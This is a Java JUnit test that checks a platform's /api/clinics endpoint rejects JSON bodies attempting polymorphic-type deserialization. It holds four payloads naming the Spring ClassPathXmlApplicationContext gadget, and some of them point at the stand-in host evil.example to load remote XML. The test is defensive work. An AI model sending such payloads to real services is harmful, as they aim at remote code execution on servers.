package org.horarium.platform.attacks;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.horarium.platform.Client;
import org.horarium.platform.Platform;
import org.junit.jupiter.api.Test;

/** A class that a body names is never made. */
class PolymorphicTypesTest {

    private static final String GADGET = "org.springframework.context.support.ClassPathXmlApplicationContext";

    private final Client admin = Client.demo(Platform.shared().url(), "admin");

    @Test
    void a_body_that_names_a_class_is_a_body_with_a_field_too_many_or_of_the_wrong_kind() {
        for (String body : List.of(
                "[\"" + GADGET + "\",\"http://evil.example/a.xml\"]",
                "{\"@class\":\"" + GADGET + "\",\"name\":[\"" + GADGET + "\",\"http://evil.example/a.xml\"]}",
                "{\"@type\":\"" + GADGET + "\",\"name\":{\"@class\":\"" + GADGET + "\"}}",
                "{\"name\":{\"$type\":\"" + GADGET + "\",\"configLocation\":\"http://evil.example/a.xml\"}}")) {
            assertThat(admin.send("POST", "/api/clinics", body.getBytes(StandardCharsets.UTF_8))
                            .status())
                    .as(body)
                    .isEqualTo(400);
        }
    }
}
